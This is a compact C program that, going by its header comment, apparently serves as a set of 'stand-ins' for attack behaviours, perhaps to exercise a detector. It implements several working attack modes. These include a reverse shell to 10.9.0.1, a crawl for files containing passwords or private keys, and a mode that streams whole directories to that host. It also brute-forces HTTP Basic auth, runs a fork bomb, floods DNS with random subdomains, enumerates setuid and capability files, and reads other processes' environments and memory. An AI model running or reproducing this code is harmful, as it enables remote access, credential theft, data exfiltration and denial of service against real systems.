// misc shell PORT | crawl DIR | storm N US | dns US | guess PORT | send PORT DIR | enum | mem: small C stand-ins.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <ftw.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>
static int dial(int p) { struct sockaddr_in a = {AF_INET, htons(p)}; inet_pton(AF_INET, "10.9.0.1", &a.sin_addr); int s = socket(AF_INET, SOCK_STREAM, 0); if (connect(s, (void *)&a, sizeof a)) { close(s); return -1; } return s; }
static int port; static char b[1 << 18];
static int crawl(const char *p, const struct stat *s, int t, struct FTW *f) { if (t != FTW_F) return 0; int h = open(p, O_RDONLY); if (h < 0) return 0; int n; while ((n = read(h, b, 65536)) > 0) if (memmem(b, n, "password", 8) || memmem(b, n, "PRIVATE KEY", 11)) { printf("%s\n", p); break; } close(h); return 0; }
static int look(const char *p, const struct stat *s, int t, struct FTW *f) { if (s->st_mode & 06000) printf("s %s\n", p); if (s->st_mode & 2) access(p, W_OK); getxattr(p, "security.capability", b, 99); return 0; }
static int out(const char *p, const struct stat *s, int t, struct FTW *f) { if (t != FTW_F) return 0; int h = open(p, O_RDONLY), k = dial(port); if (h >= 0 && k >= 0) { dprintf(k, "%s %ld\n", p, (long)s->st_size); sendfile(k, h, 0, s->st_size); } close(h); close(k); usleep(random() % 20000); return 0; }
int main(int n, char **v) {
  char *m = v[1]; long x = n > 2 ? atol(v[2]) : 0, us = n > 3 ? atol(v[3]) : 0; port = x;
  if (!strcmp(m, "shell")) for (;;) { int s = dial(port); if (s < 0) { sleep(1); continue; } if (!fork()) { dup2(s, 0); dup2(s, 1); dup2(s, 2); execl("/bin/sh", "sh", "-i", (char *)0); } close(s); wait(0); }
  if (!strcmp(m, "crawl")) for (;;) { nftw(v[2], crawl, 30, FTW_PHYS); usleep(200000); }
  if (!strcmp(m, "enum")) for (;;) { nftw(v[2], look, 30, FTW_PHYS | FTW_MOUNT); usleep(200000); }
  if (!strcmp(m, "send")) for (;;) nftw(v[3], out, 30, FTW_PHYS);
  if (!strcmp(m, "storm")) { signal(SIGCHLD, SIG_IGN); for (;;) { for (int i = 0; i < x; i++) if (!fork()) { usleep(us); _exit(0); } usleep(us); } }
  if (!strcmp(m, "guess")) for (long i = 0;; i++) { int s = dial(port); if (s < 0) return 1; sprintf(b, "GET /admin HTTP/1.1\r\nHost: x\r\nAuthorization: Basic %08lx\r\n\r\n", i * 2654435761u); write(s, b, strlen(b)); read(s, b, sizeof b); close(s); usleep(us); }
  if (!strcmp(m, "dns")) { int s = socket(AF_INET, SOCK_DGRAM, 0); struct sockaddr_in a = {AF_INET, htons(53)}; inet_pton(AF_INET, "127.0.0.1", &a.sin_addr); for (unsigned i = 0;; i++) { unsigned char q[300] = {i >> 8, i, 1, 0, 0, 1}; int k = 12; for (int l = 0; l < 3; l++) { q[k++] = 50; for (int c = 0; c < 50; c++) q[k++] = 'a' + random() % 26; } memcpy(q + k, "\1t\7example\0\0\20\0\1", 15); sendto(s, q, k + 15, 0, (void *)&a, sizeof a); recv(s, b, 512, 0); usleep(x); } }
  if (!strcmp(m, "mem")) for (;;) { DIR *d = opendir("/proc"); struct dirent *e; while ((e = readdir(d))) { if (e->d_name[0] < '0' || e->d_name[0] > '9') continue; char p[99]; static char *f[] = {"environ", "cmdline", "maps", "status"}; for (int i = 0; i < 4; i++) { snprintf(p, 99, "/proc/%s/%s", e->d_name, f[i]); int h = open(p, O_RDONLY); if (h < 0) continue; while (read(h, b, 65536) > 0) ; close(h); } snprintf(p, 99, "/proc/%s/mem", e->d_name); int h = open(p, O_RDONLY); if (h >= 0) { pread(h, b, 4096, 0x400000); close(h); } usleep(x); } closedir(d); }
}
